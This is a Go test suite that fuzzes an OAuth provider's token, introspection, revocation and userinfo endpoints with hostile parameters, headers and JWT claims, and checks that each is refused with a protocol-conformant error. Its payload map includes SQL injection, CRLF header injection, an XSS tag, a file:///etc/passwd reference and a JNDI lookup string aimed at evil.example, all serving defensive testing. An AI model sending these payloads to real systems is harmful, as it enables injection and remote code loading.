package provider_test

import (
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	. "gatehouse/api/apitest"
)

// hostile are values that no parameter is meant to have.
var hostile = map[string]string{
	"NUL": "a\x00b", "broken UTF-8": "\xff\xfe", "a new line": "a\r\nSet-Cookie: a=b", "SQL": "' OR 1=1; DROP TABLE users --",
	"an array": "{a,b}", "JSON": `{"a":["b"]}`,
	"a number": "-99999999999999999999", "an address": "file:///etc/passwd", "a template": "${jndi:ldap://evil.example/x}{{.}}",
	"markup":    `"><script>alert(1)</script>`,
	"a percent": "%00%zz", "a JWT of nothing": "..", "a JWT of dots": strings.Repeat(".", 5000), "an empty JWT": "e30.e30.",
	"a JWT of lists": base64url([]byte("[]")) + "." + base64url([]byte("[]")) + ".AA",
	"a JWT of null":  base64url([]byte("null")) + "." + base64url([]byte("null")) + ".AA",
	"a JWT of odd types": base64url([]byte(`{"alg":{},"kid":[1],"typ":7,"jwk":"x"}`)) + "." +
		base64url([]byte(`{"sub":{},"exp":"x","aud":{"a":1},"jti":[]}`)) + ".AA",
	"a deep JWT": base64url([]byte(`{"alg":"ES256"}`)) + "." +
		base64url([]byte(strings.Repeat(`{"act":`, 9000)+"1"+strings.Repeat("}", 9000))) + ".AA",
	"50 kB": strings.Repeat("x", 50<<10), "right to left": "\u202eabc", "a spider": strings.Repeat("Z̷̛", 500),
	"spaces": "   ", "a tab": "\t",
}

// RFC 6749 §5.2: codes are of the registry, descriptions of printable ASCII without quotes and backslashes.
var (
	errorCode        = regexp.MustCompile(`^[a-z_]{5,40}$`)
	errorDescription = regexp.MustCompile(`^[ !#-\[\]-~]*$`)
)

// fourOf expects a refusal in the protocol's words, or where quiet is true nothing said at all.
func (b *browser) fourOf(what string, a Answer, quiet bool) {
	b.Helper()
	if quiet && a.Status == 200 && (a.Body == "" || strings.TrimSpace(a.Body) == `{"active":false}`) {
		return
	}
	if a.Status < 400 || a.Status > 499 || !errorCode.MatchString(Str(a.JSON()["error"])) ||
		!errorDescription.MatchString(Str(a.JSON()["error_description"])) ||
		a.Header.Get("Cache-Control") != "no-store" || a.Header.Get("Set-Cookie") != "" {
		b.Errorf("%s: %d %.300s", what, a.Status, a.Body)
	}
}

func TestHostileParametersOfTheTokenEndpointsAreRefusedInTheProtocolsWords(t *testing.T) {
	t.Parallel()
	s := startSigning(t)
	s.Exec(`INSERT INTO exchange_policies (client_id, audience, scope) VALUES ('web', 'store', 'openid')`)
	s.Exec(`UPDATE clients SET grant_types = ` + everyGrant + `, scope = scope || ' read' WHERE client_id IN ('web')`)
	access := Str(s.Token(Redeem(s.Code(AuthParams()))).JSON()["access_token"])
	web := []string{"client_id", "web", "client_secret", "web-secret"}
	exchange := form(append(web, "grant_type", "urn:ietf:params:oauth:grant-type:token-exchange", "subject_token", access,
		"subject_token_type", accessTokenURI,
		"requested_token_type", accessTokenURI, "audience", "store")...)
	for _, c := range []struct {
		path   string
		quiet  bool // of tokens that are none nothing is said
		form   url.Values
		params []string
	}{
		{"/token", false, form(append(web, "grant_type", "client_credentials")...),
			[]string{"client_id", "client_secret", "client_assertion", "client_assertion_type",
				"grant_type", "scope", "resource"}},
		{"/token", false, Redeem("x", web...), []string{"code", "redirect_uri", "code_verifier", "resource"}},
		{"/token", false, Refresh("x", web...), []string{"refresh_token", "scope", "resource"}},
		{"/token", false, form(append(web, "grant_type", deviceGrant, "device_code", "x")...), []string{"device_code", "resource"}},
		{"/token", false, exchange, []string{"subject_token", "subject_token_type", "requested_token_type", "actor_token",
			"actor_token_type", "requested_issuer",
			"audience", "scope"}},
		{"/introspect", true, form(append(web, "token", "x")...), []string{"token", "client_id", "client_secret", "client_assertion",
			"client_assertion_type"}},
		{"/revoke", true, form(append(web, "token", "x")...), []string{"token", "client_id", "client_secret", "client_assertion",
			"client_assertion_type"}},
	} {
		for _, name := range c.params {
			for what, value := range hostile {
				ask := url.Values{}
				for k, v := range c.form {
					ask[k] = v
				}
				ask.Set(name, value)
				s.fourOf(fmt.Sprintf("%s %s with %s in %s", c.path, c.form.Get("grant_type"), what, name), s.Do("POST", c.path, ask), c.quiet)
			}
			if name != "resource" && name != "audience" {
				twice := url.Values{}
				for k, v := range c.form {
					twice[k] = v
				}
				twice[name] = []string{"a", "a"}
				s.fourOf(c.path+" with two of "+name, s.Do("POST", c.path, twice), false)
			}
		}
	}
	if s.Count("SELECT count(*) FROM used_jtis") != 0 || s.Count("SELECT count(*) FROM revoked_tokens") != 0 {
		t.Error("a hostile request left a row")
	}
}

// What is signed well may be hostile as well.
func TestHostileHeadersAndClaimsAreRefusedInTheProtocolsWords(t *testing.T) {
	t.Parallel()
	s := startSigning(t)
	key, dpop := s.keys["ES256"], newSigner("ES256", "")
	access := Str(s.proven(dpop, Redeem(s.Code(AuthParams()))).JSON()["access_token"])
	nonce := s.nonce()
	odd := []any{nil, "", "a\x00b", "\u202e", strings.Repeat("x", 3000), 0, -1, 1e300, true, []any{}, []any{"a", 1},
		map[string]any{}, map[string]any{"a": "b"}}
	for _, name := range []string{"iss", "sub", "aud", "exp", "jti"} {
		for _, value := range odd {
			if name == "exp" && value == true {
				continue
			}
			s.refusedClient(fmt.Sprintf("an assertion with %s %.20v", name, value),
				notGood(s.clientCredentials(s.assertion("signs", key, name, value)), name, value))
		}
	}
	for _, name := range []string{"htm", "htu", "iat", "jti", "nonce", "ath"} {
		for _, value := range odd {
			proof := s.proof(dpop, "GET", "/userinfo", "ath", athOf(access), "nonce", nonce, name, value)
			s.fourOf(fmt.Sprintf("userinfo with a proof with %s %.20v", name, value), notGood(s.shown(access, proof), name, value), false)
		}
	}
	for what, value := range hostile {
		if strings.ContainsAny(value, "\x00\r\n") { // no header can have them
			continue
		}
		s.fourOf("DPoP: "+what, s.Do("POST", "/token", Refresh("x", "client_id", "spa"), "DPoP", value), false)
		s.fourOf("DPoP at userinfo: "+what, s.shown(access, value), false)
		s.fourOf("DPoP at /par: "+what, s.Do("POST", "/par", AuthParams("client_secret", "web-secret"), "DPoP", value), false)
		for _, scheme := range []string{"DPoP ", "Bearer ", "Basic ", ""} {
			s.fourOf("Authorization: "+scheme+what, s.Do("GET", "/userinfo", nil, "Authorization", scheme+value), false)
			s.fourOf("Authorization at /token: "+scheme+what, s.Do("POST", "/token", form("grant_type", "client_credentials"),
				"Authorization", scheme+value), false)
		}
	}
	if n := s.Count("SELECT count(*) FROM used_jtis WHERE expires_at > now() + interval '2 hours'"); n != 0 {
		t.Errorf("%d jtis are remembered for longer than any is good", n)
	}
	s.Later(time.Second)
	if a := s.shown(access, s.proof(dpop, "GET", "/userinfo", "ath", athOf(access))); a.Status != 200 {
		t.Errorf("after all of it: %d %s", a.Status, a.Body)
	}
}

// notGood lets those few odd values pass that are good: a jti may be any short text.
func notGood(a Answer, name string, value any) Answer {
	if text, ok := value.(string); ok && name == "jti" && text != "" && len(text) < 256 && a.Status == 200 {
		a.Status, a.Body = 401, `{"error":"invalid_client"}`
		a.Header.Set("WWW-Authenticate", "Basic")
		a.Header.Set("Cache-Control", "no-store")
	}
	return a
}
